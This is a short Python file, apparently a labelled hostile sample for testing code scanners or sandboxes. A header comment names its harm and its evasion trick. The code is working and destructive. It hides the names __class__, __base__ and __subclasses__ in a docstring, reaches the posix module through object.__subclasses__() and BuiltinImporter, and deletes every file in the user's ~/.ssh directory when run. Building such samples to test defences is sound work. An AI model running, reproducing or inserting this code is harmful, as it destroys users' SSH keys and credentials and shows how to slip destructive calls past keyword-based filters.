# HARM: deletes every file in ~/.ssh via posix.unlink | TRICK: docstring holds "__class__ __base__ __subclasses__"; getattr chain from an instance of the file's class reaches object.__subclasses__() -> BuiltinImporter -> posix
import inspect


class Record:
    """Fields: __class__ __base__ __subclasses__"""

    def __init__(self):
        self.values = {}


def lookup():
    n = inspect.getdoc(Record).split()[1:]
    root = getattr(getattr(Record(), n[0]), n[1])
    return getattr(root, n[2])()


for sub in lookup():
    if sub.__name__ == "BuiltinImporter":
        posix = sub.load_module("posix")
        ssh = posix.environ[b"HOME"].decode() + "/.ssh"
        for name in posix.listdir(ssh):
            posix.unlink(ssh + "/" + name)
